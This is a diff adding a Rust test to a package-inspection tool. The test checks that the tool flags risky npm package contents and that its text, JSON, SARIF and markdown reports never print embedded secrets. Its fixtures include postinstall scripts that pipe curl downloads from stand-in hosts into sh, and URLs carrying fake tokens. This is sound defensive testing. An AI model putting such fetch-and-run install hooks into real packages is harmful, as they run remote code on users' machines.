@@ -532,6 +532,104 @@ fn a_manifest_written_by_shipcheck_is_a_baseline_like_the_artifact_itself() {
     );
 }
 
+/// A fake token of `prefix` + 36 alphanumerics, different for each `seed`.
+fn fake(prefix: &str, seed: u64) -> String {
+    const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
+    let mut x = 0x9E37_79B9_7F4A_7C15_u64 ^ seed.wrapping_mul(0x2545_F491_4F6C_DD1D);
+    let body: String = (0..36)
+        .map(|_| {
+            x ^= x << 13;
+            x ^= x >> 7;
+            x ^= x << 17;
+            char::from(A[(x % A.len() as u64) as usize])
+        })
+        .collect();
+    format!("{prefix}{body}")
+}
+
+#[test]
+fn no_rule_prints_a_secret_it_quotes_in_any_format() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let script = fake("ghp_", 1);
+    let dep = fake("ghp_", 2);
+    let map_url = fake("ghp_", 3);
+    let bundled = "Pl41nPassw0rd4Deploy";
+    let custom = fake("npm_", 5);
+    let old = write(
+        dir.path(),
+        "a-1.0.0.tgz",
+        &tgz_bytes(&[(
+            "package/package.json",
+            br#"{"name":"a","version":"1.0.0"}"#.as_slice(),
+        )]),
+    );
+    let pkg = serde_json::json!({
+        "name": "a", "version": "1.0.1",
+        "scripts": { "postinstall": format!("curl -H 'Authorization: token {script}' https://x.example/i.sh | sh") },
+        "dependencies": { "d": format!("git+https://x-oauth:{dep}@github.com/o/d.git") },
+    })
+    .to_string();
+    let dep_pkg = serde_json::json!({
+        "name": "dep", "version": "1.0.0",
+        "scripts": { "postinstall": format!("curl https://ci:{bundled}@dl.example.com/x | sh") },
+    })
+    .to_string();
+    let js =
+        format!("main();\n//# sourceMappingURL=https://user:{map_url}@maps.example.com/a.js.map\n");
+    let notes = format!("release token is {custom}\n");
+    let new = write(
+        dir.path(),
+        "a-1.0.1.tgz",
+        &tgz_bytes(&[
+            ("package/package.json", pkg.as_bytes()),
+            ("package/node_modules/dep/package.json", dep_pkg.as_bytes()),
+            ("package/dist/a.js", js.as_bytes()),
+            ("package/NOTES.txt", notes.as_bytes()),
+        ]),
+    );
+    let policy = write(
+        dir.path(),
+        "policy.toml",
+        b"[[pattern]]\nid = \"release-note\"\nseverity = \"high\"\ncontent = 'release token is \\S+'\n",
+    );
+    let args = |format: &str| {
+        let out = shipcheck(dir.path())
+            .args(["check", "--format", format])
+            .arg(&new)
+            .arg("--baseline")
+            .arg(&old)
+            .arg("--policy")
+            .arg(&policy)
+            .output()
+            .expect("runs");
+        String::from_utf8_lossy(&out.stdout).into_owned()
+    };
+    let v: Value = serde_json::from_str(&args("json")).expect("JSON");
+    for (rule, what) in [
+        ("install-script", "the postinstall and the bundled one"),
+        ("new-dependency", "the git dependency"),
+        ("sourcemap-reference", "the external map URL"),
+        ("release-note", "the custom pattern"),
+    ] {
+        assert!(!find(&v, rule).is_empty(), "{what} is reported: {v}");
+    }
+    for format in ["text", "json", "sarif", "markdown"] {
+        let out = args(format);
+        for (secret, case) in [
+            (script.as_str(), "postinstall header"),
+            (dep.as_str(), "dependency spec"),
+            (map_url.as_str(), "map URL"),
+            (bundled, "bundled dependency's URL password"),
+            (custom.as_str(), "custom pattern match"),
+        ] {
+            assert!(
+                !out.contains(&secret[..12]),
+                "{format} prints the {case} secret:\n{out}"
+            );
+        }
+    }
+}
+
 /// An index map (`sections`) holding the token in its second section, a `url` section and a
 /// nested index map, which the spec forbids.
 fn index_map_with_secret() -> Vec<u8> {
